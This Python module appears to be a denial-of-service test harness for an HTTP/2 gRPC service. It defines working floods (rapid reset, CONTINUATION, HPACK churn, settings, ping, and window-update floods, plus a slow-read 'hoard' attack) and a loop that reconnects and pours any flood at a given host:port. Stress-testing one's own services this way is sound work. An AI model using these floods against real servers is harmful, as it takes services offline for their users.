"""Floods over HTTP/2: what each sends, for as long as it is told to, over as many connections as it takes."""

from __future__ import annotations

import itertools
import select
import socket
import time
from collections.abc import Callable, Iterator
from contextlib import suppress
from dataclasses import dataclass

import numpy as np

from service.grpc.http2 import frames
from service.grpc.http2.frames import NUMBER, PREFACE, SETTING, frame, frame_headers
from service.grpc.http2.hpack import encode
from service.proto import seriesmith_pb2 as messages

SETTINGS = frame(frames.SETTINGS, 0, 0)

Flood = Callable[[], Iterator[bytes]]


def build_fields(method: str) -> list[tuple[bytes, bytes]]:
    """The headers of a call."""
    path = f"/seriesmith.v1.Seriesmith/{method}".encode()
    return [
        (b":method", b"POST"),
        (b":scheme", b"http"),
        (b":path", path),
        (b":authority", b"victim"),
        (b"te", b"trailers"),
        (b"content-type", b"application/grpc"),
    ]


def call(number: int, method: str, message: bytes) -> bytes:
    """A whole call, in frames."""
    body = b"\0" + len(message).to_bytes(4) + message
    parts = [body[start : start + frames.FRAME_BYTES] for start in range(0, len(body), frames.FRAME_BYTES)]
    last = [frame(frames.DATA, frames.END_STREAM, number, parts[-1])]
    data = [frame(frames.DATA, 0, number, part) for part in parts[:-1]] + last
    return b"".join([frame_headers(number, encode(build_fields(method)), end=False), *data])


def flood_settings() -> Iterator[bytes]:
    """Empty settings, each of which wants a receipt."""
    return itertools.repeat(SETTINGS * 5000)


def flood_window_settings() -> Iterator[bytes]:
    """Settings that change the window of 200 open streams, thousands of times in a frame."""
    opened = b"".join(
        [frame_headers(number, encode(build_fields("Classify")), end=False) for number in range(1, 400, 2)]
    )
    many = b"".join([SETTING.pack(frames.INITIAL_WINDOW_SIZE, value) for value in (1, 60_000)] * 1300)
    return itertools.chain([opened], itertools.repeat(frame(frames.SETTINGS, 0, 0, many)))


def flood_pings() -> Iterator[bytes]:
    """Pings."""
    return itertools.repeat(frame(frames.PING, 0, 0, bytes(8)) * 5000)


def flood_priorities() -> Iterator[bytes]:
    """Priorities."""
    return itertools.repeat(frame(frames.PRIORITY, 0, 1, bytes([0, 0, 0, 3, 1])) * 5000)


def flood_windows() -> Iterator[bytes]:
    """Grants of a byte."""
    return itertools.repeat(frame(frames.WINDOW_UPDATE, 0, 0, NUMBER.pack(1)) * 5000)


def flood_unknown() -> Iterator[bytes]:
    """Frames of a kind that nobody knows."""
    return itertools.repeat(frame(0xEE, 0, 0) * 5000)


def flood_resets() -> Iterator[bytes]:
    """Calls, each given up at once."""
    message = messages.SampleRequest(model="sines", n_per_class=50).SerializeToString()
    give_up = NUMBER.pack(frames.CANCEL)
    for start in itertools.count(1, 400):
        numbers = range(start, start + 400, 2)
        yield b"".join(
            [call(number, "Sample", message) + frame(frames.RST_STREAM, 0, number, give_up) for number in numbers]
        )


def flood_malformed() -> Iterator[bytes]:
    """Requests that we have to reset ourselves."""
    block = encode([*build_fields("Classify"), (b"Upper", b"case")])
    for start in itertools.count(1, 400):
        yield b"".join([frame_headers(number, block, end=True) for number in range(start, start + 400, 2)])


def flood_headers() -> Iterator[bytes]:
    """New headers for the table in each request, so that none is known again."""
    for start in itertools.count(1, 100):
        blocks = []
        for number in range(start, start + 100, 2):
            churn = b"".join([b"\x40\x05x%04d\x06%06d" % (place, number % 10**6) for place in range(80)])
            blocks.append(frame_headers(number, encode(build_fields("Classify")) + churn, end=True))
        yield b"".join(blocks)


def flood_long_headers() -> Iterator[bytes]:
    """Blocks of 60 kB of short headers."""
    block = encode(build_fields("Classify")) + b"\x00\x01a\x00" * 1800 + b"\x00\x01b\x7f\x81\x7e" + b"b" * 16_000
    for number in itertools.count(1, 2):
        yield frame_headers(number, block, end=True)


def flood_continuations() -> Iterator[bytes]:
    """A block of headers that goes on with nothing."""
    first = frame(frames.HEADERS, 0, 1, encode(build_fields("Classify")))
    return itertools.chain([first], itertools.repeat(frame(frames.CONTINUATION, 0, 1) * 5000))


def flood_data() -> Iterator[bytes]:
    """A body of nothing."""
    first = frame_headers(1, encode(build_fields("Classify")), end=False)
    return itertools.chain([first], itertools.repeat(frame(frames.DATA, 0, 1) * 5000))


FLOODS: dict[str, Flood] = {
    name.removeprefix("flood_").replace("_", " "): flood
    for name, flood in list(globals().items())
    if name.startswith("flood_")
}


@dataclass
class Sent:
    """What a flood came to."""

    bytes: int = 0
    connections: int = 0


def pour(address: str, flood: Flood, seconds: float) -> Sent:
    """Send a flood until time is up, over a new connection when one is cut off."""
    host, _, port = address.rpartition(":")
    sent, end = Sent(), time.monotonic() + seconds
    while time.monotonic() < end:
        with suppress(OSError), socket.create_connection((host, int(port)), timeout=1) as connection:
            sent.connections += 1
            connection.sendall(PREFACE + SETTINGS)
            for part in flood():
                connection.settimeout(max(0.01, end - time.monotonic()))
                connection.sendall(part)
                sent.bytes += len(part)
                if time.monotonic() > end:
                    break
                _discard_answers(connection)
    return sent


def _discard_answers(connection: socket.socket) -> None:
    """Read what is there. Raises `OSError` where the server has closed."""
    while select.select([connection], [], [], 0)[0]:
        if not connection.recv(2**20):
            raise ConnectionResetError("the server has closed")


def hoard_answers(address: str, count: int, series: np.ndarray) -> socket.socket:
    """Ask for `count` reconstructions of many series, and take no byte of their answers; the connection stays open."""
    values = np.ascontiguousarray(series, "<f4")
    array = messages.Array(shape=values.shape, values=values.tobytes())
    message = messages.ReconstructRequest(model="sines", series=array).SerializeToString()
    host, _, port = address.rpartition(":")
    connection = socket.create_connection((host, int(port)), timeout=5)
    none = SETTING.pack(frames.INITIAL_WINDOW_SIZE, 1)
    connection.sendall(PREFACE + frame(frames.SETTINGS, 0, 0, none))
    with suppress(OSError):
        for number in range(1, 2 * count, 2):
            connection.sendall(call(number, "Reconstruct", message))
            _discard_answers(connection)
    return connection
